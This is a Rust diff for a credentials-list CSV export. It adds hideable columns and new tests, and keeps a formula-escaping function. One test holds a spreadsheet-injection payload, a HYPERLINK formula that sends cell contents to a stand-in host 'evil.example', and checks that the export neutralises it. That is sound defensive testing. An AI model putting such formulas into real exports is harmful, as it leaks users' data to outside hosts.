@@ -10,23 +10,24 @@ use wavepass_core::timestamp::{Timestamp, Told};
 use super::arrange::Line;
 use super::audit_chips::Chip;
 use super::contents::Contents;
+use super::query::{Column, Columns, ListQuery};
 use crate::browser;
 use crate::shell::routes::Place;
 use crate::ui::handlers::pressed;
 
-/// The names of the columns.
-const HEAD: [&str; 11] = [
-    "Name",
-    "Provider",
-    "Registry server",
-    "User name",
-    "Description",
-    "Secret ends",
-    "Last used",
-    "Created",
-    "Changed",
-    "Needs attention",
-    "ID",
+/// The names of the columns, and with which column of the list each is hidden.
+const HEAD: [(&str, Option<Column>); 11] = [
+    ("Name", None),
+    ("Provider", Some(Column::Provider)),
+    ("Registry server", Some(Column::Registry)),
+    ("User name", Some(Column::UserName)),
+    ("Description", None),
+    ("Secret ends", None),
+    ("Last used", Some(Column::LastUsed)),
+    ("Created", Some(Column::Created)),
+    ("Changed", None),
+    ("Needs attention", None),
+    ("ID", None),
 ];
 
 /// What makes a program for tables take a text for a formula, which can send away what stands in
@@ -38,11 +39,14 @@ const FORMULA: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋',
 pub(crate) fn Export(
     contents: RwSignal<Arc<Contents>>,
     lines: Memo<Vec<Line>>,
+    asked: RwSignal<ListQuery>,
     place: Place,
 ) -> impl IntoView {
     let name = file_name(&place);
     let export = move || {
-        let text = contents.with_untracked(|it| lines.with_untracked(|lines| csv(lines, it)));
+        let columns = asked.with_untracked(|asked| asked.columns);
+        let text =
+            contents.with_untracked(|it| lines.with_untracked(|lines| csv(lines, it, columns)));
         browser::download(&name, &text);
     };
     view! {
@@ -52,18 +56,21 @@ pub(crate) fn Export(
     }
 }
 
-/// The rows that are shown, in their order. Times are in UTC, in ISO 8601.
-fn csv(lines: &[Line], contents: &Contents) -> String {
+/// The rows that are shown, in their order, without the columns that are hidden. Times are in UTC,
+/// in ISO 8601.
+fn csv(lines: &[Line], contents: &Contents, columns: Columns) -> String {
     let rows = lines.iter().filter_map(|line| match line {
         Line::Row(place) => Some((contents.rows.get(*place)?, contents.chips.get(*place)?)),
         Line::Heading(..) => None,
     });
     let rows = rows.map(|(row, chips)| cells(row, chips));
-    let head = HEAD.map(str::to_owned);
+    let head = HEAD.map(|(name, _)| name.to_owned());
     let mut writer = WriterBuilder::new().from_writer(Vec::new());
     for row in std::iter::once(head).chain(rows) {
+        let cells = row.into_iter().zip(HEAD);
+        let cells = cells.filter(|(_, (_, of))| of.is_none_or(|column| columns.has(column)));
         // Writing into memory does not fail, and all rows have as many cells.
-        let _ = writer.write_record(row.map(harmless));
+        let _ = writer.write_record(cells.map(|(cell, _)| harmless(cell)));
     }
     let bytes = writer.into_inner().unwrap_or_default();
     String::from_utf8(bytes).unwrap_or_default()
@@ -120,6 +127,7 @@ mod tests {
 
     use super::*;
     use crate::credentials::list::audit_chips::chips;
+    use crate::credentials::list::query::OPTIONAL;
     #[cfg(target_arch = "wasm32")]
     use wasm_bindgen_test::wasm_bindgen_test as test;
 
@@ -165,7 +173,7 @@ mod tests {
             Line::Row(0),
             Line::Row(7),
         ];
-        let text = csv(&lines, &contents);
+        let text = csv(&lines, &contents, Columns::default());
         assert!(text.starts_with("Name,Provider,Registry server,"), "{text}");
         let rows = read(&text);
         let names: Vec<_> = rows.iter().map(|row| row[0].as_str()).collect();
@@ -174,6 +182,38 @@ mod tests {
         assert_eq!(rows[0][7], "2026-11-30T08:00:00Z");
         assert_eq!(rows[1][2..4], ["quay.io", "me"]);
         assert_eq!(rows[1][6], "", "what is not told is not claimed");
+    }
+
+    #[test]
+    fn a_column_that_is_hidden_is_not_written_and_what_the_list_says_without_it_is() {
+        let contents = contents(&[json!({
+            "id": "1", "name": "first", "provider": "container-reg", "lastUsed": null,
+            "description": "Pulls [expires 2099-01-31]",
+            "keys": {"registry": "https://quay.io", "userName": "me"},
+        })]);
+        let written = |columns| csv(&[Line::Row(0)], &contents, columns);
+        let all = read(&written(Columns::default()));
+        for column in OPTIONAL {
+            let text = written(Columns::default().with(column, false));
+            let (head, _) = text.split_once('\n').unwrap();
+            let names: Vec<_> = head.split(',').collect();
+            let rest = HEAD.iter().filter(|(_, of)| *of != Some(column));
+            assert_eq!(names, rest.map(|(name, _)| *name).collect::<Vec<_>>());
+            assert!(!names.contains(&column.label()), "{column:?}");
+            let mut cells = all[0].clone();
+            cells.remove(HEAD.iter().position(|(_, of)| *of == Some(column)).unwrap());
+            assert_eq!(read(&text), [cells]);
+        }
+        let name_alone = OPTIONAL
+            .iter()
+            .fold(Columns::default(), |all, column| all.with(*column, false));
+        let text = written(name_alone);
+        assert!(
+            text.starts_with("Name,Description,Secret ends,Changed,Needs attention,ID\n"),
+            "{text}"
+        );
+        assert!(text.contains("first,Pulls,2099-01-31,,"), "{text}");
+        assert!(text.contains("never matches"), "{text}");
     }
 
     #[test]
@@ -187,7 +227,7 @@ mod tests {
             registry("two", &json!({"registry": "ghcr.io", "userName": "me"})),
         ]);
         let lines: Vec<_> = (0..3).map(Line::Row).collect();
-        let rows = read(&csv(&lines, &contents));
+        let rows = read(&csv(&lines, &contents, Columns::default()));
         assert!(rows[0][9].contains("never matches"), "{:?}", rows[0]);
         assert_eq!(rows[1][9], "", "used first");
         assert!(rows[2][9].contains("Never used: one"), "{:?}", rows[2]);
@@ -207,7 +247,7 @@ mod tests {
             "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
         ] {
             let contents = contents(&[registry(text, &json!({"userName": text}))]);
-            let rows = read(&csv(&[Line::Row(0)], &contents));
+            let rows = read(&csv(&[Line::Row(0)], &contents, Columns::default()));
             assert_eq!(rows[0][0], format!("'{text}"));
             assert_eq!(rows[0][3], format!("'{text}"));
         }
@@ -226,7 +266,7 @@ mod tests {
             "1-2",
         ] {
             let contents = contents(&[registry(text, &json!({"userName": "me"}))]);
-            let rows = read(&csv(&[Line::Row(0)], &contents));
+            let rows = read(&csv(&[Line::Row(0)], &contents, Columns::default()));
             assert_eq!(rows[0][0], text);
         }
     }
